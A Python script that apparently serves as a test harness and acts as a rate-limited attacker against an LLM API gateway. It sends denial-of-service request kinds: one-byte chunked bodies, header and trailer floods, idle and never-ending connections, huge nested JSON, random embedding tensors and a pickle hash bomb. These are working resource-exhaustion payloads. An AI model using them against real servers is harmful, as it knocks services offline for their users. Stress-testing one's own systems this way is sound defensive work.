"""An attacker on a gateway: a program that sends one kind of hostile requests at a limited rate, for a time.

Run by path, ``python attacker.py URL KIND KEY SECONDS``. It has an address of its own (127.0.0.2), as a caller on
another machine would have.
"""

from __future__ import annotations

import base64
import contextlib
import io
import itertools
import json
import os
import random
import socket
import struct
import sys
import threading
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from urllib.parse import urlsplit

RATE = 5_000_000
"""Bytes a second, over all connections."""
ADDRESS = "127.0.0.2"
CONNECTIONS = 32
"""That send at once."""
HIDDEN = 576

Request = Iterator[bytes]
"""What is sent over one connection, in pieces."""

_PIECE = 1 << 16


def head(key: str, *headers: str, method: str = "POST", path: str = "/v1/completions") -> bytes:
    """A request before its body."""
    lines = [f"{method} {path} HTTP/1.1", "Host: gateway", "Content-Type: application/json"]
    if key:
        lines.append(f"Authorization: Bearer {key}")
    return "\r\n".join([*lines, *headers, "", ""]).encode()


def sized(key: str, body: bytes) -> Request:
    """A request with a body of known length."""
    yield head(key, f"Content-Length: {len(body)}")
    for start in range(0, len(body), _PIECE):
        yield body[start : start + _PIECE]


def small_chunks(key: str) -> Request:
    """A body of 32 MB in chunks of one byte."""
    yield head(key, "Transfer-Encoding: chunked")
    yield from itertools.repeat(b"1\r\n \r\n" * 10_000, 500)


def chunks_at_the_limit(key: str) -> Request:
    """Chunks just as large as those that are still read."""
    yield head(key, "Transfer-Encoding: chunked")
    yield from itertools.repeat(b"400\r\n" + b" " * 1024 + b"\r\n", 30_000)


def pipelined(key: str) -> Request:
    """Requests one behind the other."""
    yield from itertools.repeat(head(key, method="GET", path="/v1/models") * 100, 1000)


def one_request(key: str) -> Request:
    """One small request over each connection."""
    yield head(key, method="GET", path="/v1/models")


def header_lines(key: str) -> Request:
    """Headers of as many lines as fit."""
    yield head(key, *["a:"] * 3900, method="GET", path="/v1/models")


def trailers(key: str) -> Request:
    """A body that ends with many trailers."""
    yield head(key, "Transfer-Encoding: chunked") + b"0\r\n"
    yield from itertools.repeat(b"a:\r\n" * 10_000, 100)


def nothing(key: str) -> Request:
    """A connection that is opened and left alone."""
    del key
    yield b""


def half_a_body(key: str) -> Request:
    """A body that never ends."""
    yield head(key, "Content-Length: 1000000") + b"{"


def nested_lists(key: str) -> Request:
    """A large body of empty lists."""
    yield from sized(key, b'{"prompt": "Hi", "metadata": {"x": [' + b"[]," * 9_000_000 + b"[]]}}")


def many_lists(key: str) -> Request:
    """Bodies of 100 KB of empty objects."""
    yield from sized(key, b'{"prompt": "Hi", "metadata": {"x": [' + b"{}," * 33_000 + b"{}]}}")


def saved(rows: int, seed: int) -> bytes:
    """Random rows as ``torch.save`` writes them (the tail and the headers of its archives are fixed)."""
    chance = random.Random(seed)
    block = struct.pack(f"<{HIDDEN}f", *(chance.gauss(0, 0.1) for _ in range(HIDDEN)))
    return tensor_file(rows, HIDDEN, block * rows)


def tensor_file(rows: int, columns: int, storage: bytes) -> bytes:
    """A float32 tensor in the format of ``torch.save``."""
    import torch

    buffer = io.BytesIO()
    torch.save(torch.frombuffer(bytearray(storage), dtype=torch.float32).view(rows, columns), buffer)
    return buffer.getvalue()


def random_rows(key: str) -> Request:
    """Twenty prompts of a thousand rows of no vocabulary."""
    payload = _cached("rows", lambda: base64.b64encode(saved(1000, 0)).decode())
    yield from sized(key, json.dumps({"prompt_embeds": [payload] * 9}).encode())


def few_random_rows(key: str) -> Request:
    """Prompts of sixty rows of no vocabulary."""
    payload = _cached("few", lambda: base64.b64encode(saved(60, 0)).decode())
    yield from sized(key, json.dumps({"prompt_embeds": payload}).encode())


def hash_bomb(key: str) -> Request:
    """A pickle with a key that takes 2**48 steps to hash."""
    import pickle

    def make() -> str:
        deep: object = ()
        for _ in range(48):
            deep = (deep, deep)
        pickled = b"\x80\x02}" + pickle.dumps(deep, protocol=2)[2:-1] + b"K\x01s."
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("archive/data.pkl", pickled)
            archive.writestr("archive/data/0", b"\0" * 8)
        return base64.b64encode(buffer.getvalue()).decode()

    yield from sized(key, json.dumps({"prompt_embeds": _cached("bomb", make)}).encode())


def small_prompts(key: str) -> Request:
    """Requests like everybody's, as many as are taken."""
    yield from sized(key, os.environ["ATTACKER_PROMPT"].encode())


def long_prompts(key: str) -> Request:
    """Prompts of words as long as the model's context."""
    yield from sized(key, _cached("long", lambda: open(os.environ["ATTACKER_LONG"]).read()).encode())  # noqa: PTH123, SIM115


def long_text(key: str) -> Request:
    """Megabytes of text."""
    yield from sized(key, json.dumps({"prompt": "word " * 2_000_000}).encode())


KINDS: Mapping[str, Callable[[str], Request]] = {
    "chunks of one byte": small_chunks,
    "chunks of 1 KB": chunks_at_the_limit,
    "pipelined requests": pipelined,
    "a connection for each request": one_request,
    "header lines": header_lines,
    "trailers": trailers,
    "idle connections": nothing,
    "bodies that do not end": half_a_body,
    "27 MB of empty lists": nested_lists,
    "100 KB of empty objects": many_lists,
    "prompts of 1,000 random rows": random_rows,
    "prompts of 60 random rows": few_random_rows,
    "pickles that never end": hash_bomb,
    "good prompts of 64 rows": small_prompts,
    "good prompts of 8,000 rows": long_prompts,
    "10 MB of text": long_text,
}
"""Name -> what is sent over one connection, given a key or an empty string."""
HELD = frozenset({"idle connections", "bodies that do not end"})
"""Kinds whose connections are left open, 1,500 of them."""

_cache: dict[str, str] = {}
_lock = threading.Lock()


def _cached(name: str, make: Callable[[], str]) -> str:
    with _lock:
        if name not in _cache:
            _cache[name] = make()
        return _cache[name]


class _Allowance:
    """Bytes that may be sent by now."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._next = time.monotonic()

    def wait(self, count: int) -> None:
        with self._lock:
            now = time.monotonic()
            self._next = max(self._next, now - 0.1) + count / RATE
            delay = self._next - now
        if delay > 0:
            time.sleep(delay)


def attack(url: str, kind: str, key: str, seconds: float) -> int:
    """Send until the time is over; returns the number of connections."""
    parts, allowance = urlsplit(url), _Allowance()
    until = time.monotonic() + seconds
    made = itertools.count()
    held: list[socket.socket] = []

    def connect() -> socket.socket:
        next(made)
        return socket.create_connection((parts.hostname, parts.port), timeout=5, source_address=(ADDRESS, 0))

    def send() -> None:
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                connection = connect()
                for piece in KINDS[kind](key):
                    allowance.wait(len(piece) + 60)
                    connection.sendall(piece)
                    if time.monotonic() >= until:
                        break
                if kind in HELD and len(held) < 1500:
                    held.append(connection)
                    continue
                if kind in HELD:
                    time.sleep(0.1)
                connection.settimeout(2)
                connection.recv(_PIECE)
                connection.close()

    threads = [threading.Thread(target=send, daemon=True) for _ in range(CONNECTIONS)]
    for thread in threads:
        thread.start()
    time.sleep(max(0.0, until - time.monotonic()))
    return next(made)


if __name__ == "__main__":
    address, chosen, secret, duration = sys.argv[1:]
    for each in KINDS[chosen](secret):  # prepared before the time begins
        del each
        break
    print("attacking", flush=True)
    print(attack(address, chosen, secret, float(duration)), flush=True)
    os._exit(0)
